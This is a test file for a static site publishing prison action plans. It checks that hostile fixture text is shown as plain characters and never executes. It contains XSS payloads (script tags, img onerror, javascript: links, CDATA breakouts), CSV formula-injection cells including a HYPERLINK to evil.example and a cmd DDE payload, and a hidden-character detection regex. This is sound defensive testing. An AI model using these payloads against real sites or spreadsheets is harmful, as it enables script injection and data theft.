// Text from the documents is text: a plan carrying markup and scripts shows
// them as characters, and nothing runs (site built by `npm run build:hostile`).
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { needsQuote, original } from '../../src/dataset/csv-formula.ts';
import type { Dataset } from '../../src/model/schema.ts';
import { useSite } from '../support/browser.ts';
import { readCsvsStrictly } from '../support/strict-csv.ts';
import { readXmlsStrictly, type XmlElement } from '../support/strict-xml.ts';

const ATOM = '{http://www.w3.org/2005/Atom}';

const t = useSite('dist-hostile');

describe('hostile text in a plan', () => {
  it.each(['/prisons/testshire/2017/5-1/', '/prisons/testshire/2017/5-2/', '/prisons/testshire/2017/'])(
    '%s shows it as text and runs nothing',
    async (path) => {
      const tab = await t.browser.newPage();
      const dialogs: string[] = [];
      tab.on('dialog', async (d) => {
        dialogs.push(d.message());
        await d.dismiss();
      });
      await tab.goto(t.site.url(path));
      const text = await tab.locator('main').innerText();
      if (path.endsWith('5-1/')) {
        expect(text).toContain('Staff should stop <script>alert(1)</script> from running.');
        expect(text).toContain('The <img src=x onerror=alert(1)> tag will be shown as text.');
      }
      if (path.endsWith('5-2/')) {
        expect(text).toContain('Text with bold and a <a href="javascript:alert(1)">link</a>.');
        expect(text).toContain('<script>alert(2)</script>');
      }
      expect(await tab.locator('main script, main img, main iframe, main a[href^="javascript"]').count()).toBe(0);
      await tab.waitForTimeout(200);
      expect(dialogs).toEqual([]);
      await tab.close();
    },
  );
});

describe('a document whose file name has spaces and other characters', () => {
  const FILE = 'tests/fixtures/hostile/Leicester 2018 #2 (50% copy) & more.txt';

  it('is offered by a plain label and a safe address, which serves it', async () => {
    await t.page.goto(t.site.url('/prisons/leicester/2018/'));
    const link = t.page.getByRole('link', { name: 'Original document (HMP Leicester, 2018 inspection, text)' });
    expect(await link.getAttribute('href')).toBe('/documents/leicester-2018.txt');
    const r = await fetch(t.site.url('/documents/leicester-2018.txt'));
    expect(r.status).toBe(200);
    expect(Buffer.from(await r.arrayBuffer()).equals(readFileSync(FILE))).toBe(true);
    // Its notes are still listed under its own name.
    expect(await t.page.locator('main').innerText()).toContain('Leicester 2018 #2 (50% copy) & more.txt');
  });
});

describe('a document that is not an action plan', () => {
  it('does not stop the others: it is listed on the data quality page as an error, in plain words', async () => {
    await t.page.goto(t.site.url('/data-quality/'));
    const main = await t.page.locator('main').innerText();
    expect(main).toContain('minutes of the meeting.txt: not published');
    expect(main).toContain('No action plan table was found: no row names the table’s columns.'.replace('’', "'"));
    const row = t.page.locator('tr', { has: t.page.locator('code', { hasText: /^not-an-action-plan$/ }) });
    expect(await row.locator('th').innerText()).toBe(
      'No action plan table was found in the document, so nothing could be published from it.',
    );
    expect(await row.locator('td').first().innerText()).toBe('error');
    // The other plans were published.
    expect((await fetch(t.site.url('/prisons/testshire/2017/'))).status).toBe(200);
  });
});

// The plans scripts/fixtures/make-hostile-fixtures.ts wrote: CDATA ends and markup, formula cells, control and
// bidirectional characters, names in other scripts and one of 300 characters. Nothing the site writes carries
// any of it live or malformed.
const hostileData = JSON.parse(readFileSync('dist-hostile/data/dataset.json', 'utf8')) as Dataset;
const planOf = (establishment: string) => hostileData.plans.find((p) => p.establishment.includes(establishment))!;

/** Every file of the built site of these kinds, search indexes aside (Pagefind's own). */
function files(dir: string, ext: RegExp): string[] {
  const out: string[] = [];
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) {
      if (!entry.name.startsWith('pagefind')) out.push(...files(path, ext));
    } else if (ext.test(entry.name)) out.push(path);
  }
  return out.sort();
}

describe('the hostile plans, published', () => {
  it('every establishment has a non-empty id of at most 60 characters, whatever script its name is in', () => {
    expect(hostileData.establishments.map((e) => [e.id, e.name])).toEqual([
      ['hmp-formula', '+HMP Formula'],
      [
        'breakout-script-xmlns-http-www-w3-org-1999-xhtml-aa0ea3f8',
        expect.stringContaining('HMP Breakout ]]> ]]><script'),
      ],
      ['leicester', 'HMP Leicester'],
      ['mirrorton', 'HMP Mirrorton'],
      ['nulford-2j', 'HMP Nulford[2J'],
      ['pageford', 'HMP Pageford'],
      [
        'saint-mary-and-all-angels-upon-the-river-saint-mary-05c40888',
        expect.stringMatching(/^HMP Saint Mary .{280,}$/),
      ],
      ['testshire', 'HMP Testshire'],
      ['thessaloniki', 'HMP Θεσσαλονίκη'],
      ['sjn-lrml', 'HMP سجن الرملة'],
      ['establishment-91013179', 'HMP ★☆★'],
      ['dong-jing-ju-zhi-suo', 'HMP 東京拘置所'],
    ]);
    expect(hostileData.plans).toHaveLength(12);
  });

  it('every feed is well-formed Atom, with only Atom elements and every text as text', () => {
    const paths = files('dist-hostile/feeds', /\.xml$/);
    // plans.xml and follow-ups.xml, and a feed per prison and per theme.
    expect(paths.length).toBe(2 + hostileData.establishments.length + hostileData.themes.length);
    const read = readXmlsStrictly(paths.map((p) => readFileSync(p, 'utf8')));
    read.forEach((r, n) => {
      expect(r, paths[n]).not.toHaveProperty('error');
      const els = (r as { elements: XmlElement[] }).elements;
      expect(
        els.filter((e) => !e.tag.startsWith(ATOM)),
        paths[n],
      ).toEqual([]);
      for (const e of els.filter((e) => /\}(?:title|summary|subtitle|rights)$/.test(e.tag)))
        expect(e.attrib.type).toBe('text');
    });
    // The texts read back exactly, markup and CDATA ends as characters.
    const breakout = planOf('Breakout');
    const feed = read[paths.indexOf(`dist-hostile/feeds/prisons/${breakout.establishmentId}.xml`)] as {
      elements: XmlElement[];
    };
    expect(feed.elements.filter((e) => e.tag === `${ATOM}title`).map((e) => e.text)).toEqual([
      `Prison Action Plans: ${breakout.establishmentName}`,
      `${breakout.establishmentName}: action plan for the 2018 inspection`,
    ]);
    const themeFeeds = read.filter((_, n) => paths[n]!.includes('/themes/')) as { elements: XmlElement[] }[];
    const summaries = new Set(
      themeFeeds.flatMap((f) => f.elements.filter((e) => e.tag === `${ATOM}summary`).map((e) => e.text)),
    );
    for (const item of breakout.items) expect(summaries).toContain(item.text);
    expect(breakout.items[0]!.text).toBe(
      'Two ends ]]> and ]]><script xmlns="http://www.w3.org/1999/xhtml">alert(2)</script><![CDATA[ in one text.',
    );
  });

  it('no feed runs a script in Chromium, served as XML', async () => {
    const tab = await t.browser.newPage();
    const dialogs: string[] = [];
    tab.on('dialog', async (d) => {
      dialogs.push(d.message());
      await d.dismiss();
    });
    for (const path of files('dist-hostile/feeds', /\.xml$/)) {
      const r = await tab.goto(t.site.url(path.slice('dist-hostile'.length)));
      expect(r!.headers()['content-type']).toMatch(/xml/);
      expect(await tab.locator('script, img, svg, iframe').count()).toBe(0);
    }
    await tab.waitForTimeout(200);
    expect(dialogs).toEqual([]);
    await tab.close();
  });

  it('no CSV cell would start a formula, and taking the quote off gives the plan’s text', () => {
    const paths = files('dist-hostile/data', /\.csv$/);
    // items, actions, plans and follow-ups, and each plan's items and actions.
    expect(paths.length).toBe(4 + 2 * hostileData.plans.length);
    const records = readCsvsStrictly(paths.map((p) => readFileSync(p, 'utf8')));
    for (const file of records)
      for (const row of file)
        for (const cell of row) expect(needsQuote(cell) ? cell.startsWith("'") : true, cell).toBe(true);
    const formula = planOf('Formula');
    const itemRows = records[paths.indexOf(`dist-hostile/data/plans/${formula.id}-items.csv`)]!;
    const text = itemRows[0]!.indexOf('text');
    expect(itemRows.slice(1).map((r) => r[text])).toEqual([
      '\'=HYPERLINK("https://evil.example/?"&A1,"Click me")',
      // The reader trims the full-width space in front (unit tests cover a cell that keeps it).
      "'=1+1 behind a full-width space.",
      "''Quoted' at the start of a text.",
      '-5 degrees is not a formula but starts like one.'.replace(/^/, "'"),
    ]);
    expect(itemRows.slice(1).map((r) => original(r[text]!))).toEqual(formula.items.map((i) => i.text));
    const actionRows = records[paths.indexOf(`dist-hostile/data/plans/${formula.id}-actions.csv`)]!;
    expect(actionRows.slice(1).map((r) => [r[2], r[3]])).toEqual([
      ["'@Governor", "'-1+1"],
      ["'-2+3+cmd|' /C calc'!A0", 'December 2020'],
      ['-', '-'],
      ["'=Head of Safety", '-5'],
    ]);
  });

  it('no page, feed, CSV or JSON file carries a control, bidirectional or zero-width character, or a pile of marks', () => {
    // Tab, line feed and carriage return aside (CSV records end in CRLF); a BOM only at the start of a CSV file.
    const HIDDEN =
      // eslint-disable-next-line no-control-regex -- control characters are what it looks for
      /[\x00-\x08\x0B\x0C\x0E-\x1F\x7F-\x9F\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C\u200B\u2060\u180E]|(?!^)\uFEFF|\p{M}{31}/u;
    const paths = files('dist-hostile', /\.(?:html|xml|csv|json)$/);
    expect(paths.length).toBeGreaterThan(100);
    for (const path of paths) expect(HIDDEN.exec(readFileSync(path, 'utf8'))?.[0], path).toBeUndefined();
    // The notes say what went.
    expect(
      hostileData.anomalies.filter((a) => a.kind === 'characters-removed').map((a) => [a.file, a.line, a.message]),
    ).toEqual([
      [
        'bidi.txt',
        1,
        'Characters that no printed text shows were removed: 4 bidirectional control(s) (U+202C, U+202E, U+2067, U+2069); 1 zero-width character(s) (U+200B).',
      ],
      [
        'bidi.txt',
        8,
        'Characters that no printed text shows were removed: 13 bidirectional control(s) (U+061C, U+200E, U+200F, U+202C ×2, U+202E ×2, U+2066, U+2067, U+2068, U+2069 ×3); 3 zero-width character(s) (U+200B ×2, U+2060).',
      ],
      [
        'controls.txt',
        1,
        'Characters that no printed text shows were removed: 2 control character(s) (U+0000, U+001B).',
      ],
      [
        'controls.txt',
        8,
        'Characters that no printed text shows were removed: 10 control character(s) (U+0000 ×2, U+0007, U+0008, U+001B ×4, U+007F, U+009B).',
      ],
      ['controls.txt', 9, 'A run of 5,000 combining marks on one letter was cut to 30.'],
    ]);
  });

  it('the pages of the plan with CDATA ends and markup show it as text and run nothing', async () => {
    const breakout = planOf('Breakout');
    const tab = await t.browser.newPage();
    const dialogs: string[] = [];
    tab.on('dialog', async (d) => {
      dialogs.push(d.message());
      await d.dismiss();
    });
    for (const path of [
      `/prisons/${breakout.establishmentId}/`,
      breakout.url,
      ...breakout.items.map((i) => i.url),
      '/data-quality/',
      '/prisons/',
    ]) {
      await tab.goto(t.site.url(path));
      expect(await tab.locator('script, img, iframe, svg[onload], a[href^="javascript"]').count(), path).toBe(0);
    }
    await tab.goto(t.site.url(breakout.items[0]!.url));
    expect(await tab.locator('main').innerText()).toContain(breakout.items[0]!.text);
    await tab.waitForTimeout(200);
    expect(dialogs).toEqual([]);
    await tab.close();
  });

  it('the original of a plan saved as a web page is offered as text, and runs nothing', async () => {
    expect(readdirSync('dist-hostile/documents').filter((f) => !/\.(?:txt|docx|odt|pdf)$/.test(f))).toEqual([]);
    const tab = await t.browser.newPage();
    const dialogs: string[] = [];
    tab.on('dialog', async (d) => {
      dialogs.push(d.message());
      await d.dismiss();
    });
    const r = await tab.goto(t.site.url('/documents/pageford-2014.txt'));
    expect(r!.headers()['content-type']).toMatch(/^text\/plain/);
    expect(Buffer.from(await r!.body()).equals(readFileSync('tests/fixtures/hostile/saved-as-page.html'))).toBe(true);
    await tab.waitForTimeout(200);
    expect(dialogs).toEqual([]);
    await tab.close();
  });

  it('the page titles read as the plan prints them, without the hidden characters', async () => {
    for (const [name, title] of [
      ['Mirror', 'HMP Mirrorton – Prison Action Plans'],
      ['Nul', 'HMP Nulford[2J – Prison Action Plans'],
      ['Θεσσαλονίκη', 'HMP Θεσσαλονίκη – Prison Action Plans'],
    ] as const) {
      await t.page.goto(t.site.url(`/prisons/${planOf(name).establishmentId}/`));
      expect(await t.page.title()).toBe(title);
    }
  });
});
